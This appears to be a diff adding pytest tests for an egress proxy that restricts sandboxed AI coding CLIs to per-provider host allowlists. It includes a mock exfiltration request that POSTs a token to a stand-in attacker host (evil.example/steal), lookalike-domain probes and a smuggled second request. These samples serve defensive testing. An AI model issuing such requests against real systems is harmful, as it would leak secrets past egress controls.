@@ -1,0 +1,225 @@
+"""The egress proxy on the host, with real sockets: what it admits, forwards, refuses and logs.
+
+The same proxy seen from inside a CLI member's container is tests/security/test_egress.py.
+"""
+
+from __future__ import annotations
+
+import logging
+import os
+import re
+import socket
+import stat
+from collections.abc import AsyncIterator
+from pathlib import Path
+
+import anyio
+import anyio.abc
+import pytest
+from pydantic import ValidationError
+
+from conclave.config import Sandbox as SandboxSpec
+from conclave.config.hosts import parse_host_rule, url_rule
+from conclave.errors import ConfigError, SandboxError
+from conclave.sandbox.allowlist import CLI_HOSTS, CLIS, allowlist_for
+from conclave.sandbox.clis_image import CLI_PINS
+from conclave.sandbox.egress import egress_proxy
+from conclave.settings import Settings
+
+pytestmark = pytest.mark.anyio
+ROOT = Path(__file__).resolve().parents[1]
+
+
+class Origin:
+    """A host server on 127.0.0.1 that records the heads it gets and answers each with its name."""
+
+    def __init__(self, name: str) -> None:
+        self.name, self.port = name, 0
+        self.heads: list[bytes] = []
+
+    async def handle(self, stream: anyio.abc.SocketStream) -> None:
+        async with stream:
+            data = b""
+            while b"\r\n\r\n" not in data:
+                chunk = await stream.receive()
+                data += chunk
+            self.heads.append(data.split(b"\r\n\r\n")[0])
+            body = f"from {self.name}".encode()
+            await stream.send(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
+
+
+@pytest.fixture
+async def origins() -> AsyncIterator[tuple[Origin, Origin]]:
+    """Two origins: `allowed` will be on the allowlist, `other` not."""
+    allowed, other = Origin("allowed"), Origin("other")
+    async with anyio.create_task_group() as group:
+        for origin in (allowed, other):
+            listener = await anyio.create_tcp_listener(local_host="127.0.0.1")
+            origin.port = listener.extra(anyio.abc.SocketAttribute.local_port)
+            group.start_soon(listener.serve, origin.handle)
+        yield allowed, other
+        group.cancel_scope.cancel()
+
+
+def ask(path: Path, request: bytes) -> bytes:
+    """Send `request` over the unix socket at `path` and read until the proxy closes (in a worker thread)."""
+    folder = os.open(path.parent, os.O_RDONLY | os.O_DIRECTORY)  # the path may exceed bind()'s 107 bytes
+    try:
+        with socket.socket(socket.AF_UNIX) as client:
+            client.settimeout(10)
+            client.connect(f"/proc/self/fd/{folder}/{path.name}")
+            client.sendall(request)
+            client.shutdown(socket.SHUT_WR)  # what was sent is all: a head left unfinished ends here
+            reply = b""
+            while chunk := client.recv(65536):
+                reply += chunk
+            return reply
+    finally:
+        os.close(folder)
+
+
+async def test_each_cli_gets_its_providers_hosts_and_nothing_else() -> None:
+    for cli in CLIS:
+        allow = allowlist_for(cli)
+        for host in CLI_HOSTS[cli]:
+            if not host.startswith("*."):
+                assert allow.admits(host, 443) and allow.admits(host.upper() + ".", 443)
+                assert not allow.admits(host, 80), "only the HTTPS port"
+        assert not allow.admits("example.com", 443)
+    assert not allowlist_for("claude-code").admits("api.openai.com", 443), "a CLI gets its own provider only"
+    copilot = allowlist_for("copilot")
+    assert copilot.admits("api.individual.githubcopilot.com", 443)
+    assert not copilot.admits("githubcopilot.com.evil.net", 443) and not copilot.admits(
+        "evilgithubcopilot.com", 443
+    )
+
+
+async def test_base_url_and_extra_hosts_extend_the_allowlist_exactly() -> None:
+    allow = allowlist_for(
+        "codex", base_url="http://127.0.0.1:8123/v1", extra=["llm.internal:8443", "*.corp.example"]
+    )
+    assert allow.admits("127.0.0.1", 8123) and not allow.admits("127.0.0.1", 8124)
+    assert not allow.admits("localhost", 8123), "a name is not its address"
+    assert allow.admits("llm.internal", 8443) and not allow.admits("llm.internal", 443)
+    assert allow.admits("a.corp.example", 443) and not allow.admits("corp.example", 443)
+    assert str(url_rule("https://[::1]/v1")) == "[::1]:443"
+    with pytest.raises(ConfigError, match="not a host rule"):
+        allowlist_for("codex", extra=["https://llm.internal/v1"])
+    with pytest.raises(ConfigError, match="base_url"):
+        allowlist_for("codex", base_url="ftp://x")
+    with pytest.raises(ValueError, match="outside 1-65535"):
+        parse_host_rule("x:0")
+
+
+async def test_team_and_setting_keys_are_checked_where_they_are_read() -> None:
+    assert SandboxSpec(allow_hosts=["llm.internal:8443"]).allow_hosts == ["llm.internal:8443"]
+    with pytest.raises(ValidationError, match="not a host rule"):
+        SandboxSpec(allow_hosts=["a host"])
+    assert Settings(egress_allow="a.example, b.example:8443").egress_allow == ("a.example", "b.example:8443")
+    with pytest.raises(ValidationError, match="not a host rule"):
+        Settings(egress_allow="ok.example,http://bad/")
+
+
+async def test_plain_http_reaches_an_allowed_host_with_hop_headers_dropped(
+    tmp_path: Path, origins: tuple[Origin, Origin]
+) -> None:
+    allowed, other = origins
+    sock = tmp_path / ("long-" * 30) / "A.sock"  # over bind()'s limit: bound through /proc/self/fd
+    async with egress_proxy(sock, allowlist_for(None, base_url=f"http://127.0.0.1:{allowed.port}")) as proxy:
+        assert stat.S_IMODE(sock.stat().st_mode) == 0o666
+        request = (
+            f"GET http://127.0.0.1:{allowed.port}/v1/x?key=k HTTP/1.1\r\nHost: 127.0.0.1:{allowed.port}\r\n"
+            "Proxy-Authorization: Basic c2VjcmV0\r\nConnection: keep-alive\r\n\r\n"
+        )
+        reply = await anyio.to_thread.run_sync(ask, sock, request.encode())
+    assert reply.startswith(b"HTTP/1.1 200") and reply.endswith(b"from allowed")
+    (head,) = allowed.heads
+    assert head.startswith(b"GET /v1/x?key=k HTTP/1.1\r\n"), "origin form, query kept"
+    assert b"Proxy-Authorization" not in head and b"keep-alive" not in head and b"Connection: close" in head
+    assert proxy.admitted == 1 and proxy.denied == [] and other.heads == []
+    assert not sock.exists(), "the socket goes with the proxy"
+
+
+async def test_connect_tunnels_to_an_allowed_host_with_pipelined_bytes(
+    tmp_path: Path, origins: tuple[Origin, Origin]
+) -> None:
+    allowed, _ = origins
+    sock = tmp_path / "A.sock"
+    async with egress_proxy(sock, allowlist_for(None, extra=[f"127.0.0.1:{allowed.port}"])):
+        request = f"CONNECT 127.0.0.1:{allowed.port} HTTP/1.1\r\n\r\nGET /inside HTTP/1.1\r\n\r\n"
+        reply = await anyio.to_thread.run_sync(ask, sock, request.encode())
+    assert reply.startswith(b"HTTP/1.1 200 Connection Established\r\n\r\nHTTP/1.1 200 OK")
+    assert allowed.heads == [b"GET /inside HTTP/1.1"]
+
+
+@pytest.mark.parametrize("kind", ["connect", "http", "other-port", "ip-for-name"])
+async def test_hosts_off_the_allowlist_get_a_403_and_a_log_line_without_secrets(
+    tmp_path: Path, origins: tuple[Origin, Origin], kind: str, caplog: pytest.LogCaptureFixture
+) -> None:
+    allowed, other = origins
+    target = {
+        "connect": "CONNECT evil.example:443 HTTP/1.1\r\n\r\n",
+        "http": "POST http://evil.example/steal?token=SECRET HTTP/1.1\r\nAuthorization: Bearer SECRET\r\n\r\n",
+        "other-port": f"GET http://127.0.0.1:{other.port}/?SECRET HTTP/1.1\r\n\r\n",
+        "ip-for-name": f"CONNECT localhost:{allowed.port} HTTP/1.1\r\n\r\n",  # only 127.0.0.1:port is listed
+    }[kind]
+    sock = tmp_path / "A.sock"
+    caplog.set_level(logging.INFO, logger="conclave.sandbox.egress")
+    async with egress_proxy(
+        sock, allowlist_for("claude-code", base_url=f"http://127.0.0.1:{allowed.port}"), label="cj-1/A"
+    ) as proxy:
+        reply = await anyio.to_thread.run_sync(ask, sock, target.encode())
+    assert reply.startswith(b"HTTP/1.1 403 Forbidden") and b"not on this member's allowlist" in reply
+    assert len(proxy.denied) == 1 and proxy.admitted == 0
+    assert other.heads == [] and allowed.heads == []
+    assert "refused" in caplog.text and "cj-1/A" in caplog.text
+    assert "SECRET" not in caplog.text and "steal" not in caplog.text, "paths, queries, headers never logged"
+
+
+async def test_a_kept_alive_connection_cannot_carry_a_second_request_elsewhere(
+    tmp_path: Path, origins: tuple[Origin, Origin]
+) -> None:
+    allowed, other = origins
+    sock = tmp_path / "A.sock"
+    first = f"GET http://127.0.0.1:{allowed.port}/one HTTP/1.1\r\n\r\n"
+    second = f"GET http://127.0.0.1:{other.port}/two HTTP/1.1\r\n\r\n"
+    async with egress_proxy(sock, allowlist_for(None, extra=[f"127.0.0.1:{allowed.port}"])):
+        reply = await anyio.to_thread.run_sync(ask, sock, (first + second).encode())
+    assert reply.count(b"HTTP/1.1 200") == 1 and other.heads == []
+
+
+async def test_what_is_not_a_proxy_request_is_refused_and_the_proxy_keeps_serving(
+    tmp_path: Path, origins: tuple[Origin, Origin]
+) -> None:
+    allowed, _ = origins
+    sock = tmp_path / "A.sock"
+    async with egress_proxy(sock, allowlist_for(None, extra=[f"127.0.0.1:{allowed.port}", "127.0.0.1:1"])):
+        for junk in (
+            b"\x16\x03\x01 hello\r\n\r\n",
+            b"GET /relative HTTP/1.1\r\n\r\n",
+            b"CONNECT nohost HTTP/1.1\r\n\r\n",
+            b"GET https://127.0.0.1:1/ HTTP/1.1\r\n\r\n",
+        ):
+            assert (await anyio.to_thread.run_sync(ask, sock, junk)).startswith(b"HTTP/1.1 400")
+        assert (
+            await anyio.to_thread.run_sync(ask, sock, b"CONNECT 127.0.0.1:1 HTTP/1.1\r\n\r\n")
+        ).startswith(b"HTTP/1.1 502"), "an allowed host that does not answer"
+        assert await anyio.to_thread.run_sync(ask, sock, b"GET http://127.0.0.1") == b"", (
+            "a head never finished"
+        )
+        request = f"GET http://127.0.0.1:{allowed.port}/ HTTP/1.1\r\n\r\n".encode()
+        assert (await anyio.to_thread.run_sync(ask, sock, request)).endswith(b"from allowed")
+
+
+async def test_the_socket_refuses_to_replace_something_else(tmp_path: Path) -> None:
+    (tmp_path / "A.sock").write_text("not a socket")
+    with pytest.raises(SandboxError, match="something else is there"):
+        async with egress_proxy(tmp_path / "A.sock", allowlist_for(None)):
+            pass
+    assert (tmp_path / "A.sock").read_text() == "not a socket"
+
+
+def test_the_image_pins_the_clis_the_tests_install() -> None:
+    script = (ROOT / ".ci" / "install-agent-clis.sh").read_text()
+    pinned = tuple(re.findall(r'^\s*"(@[^"]+@[0-9.]+)"', script, re.MULTILINE))
+    assert pinned == CLI_PINS
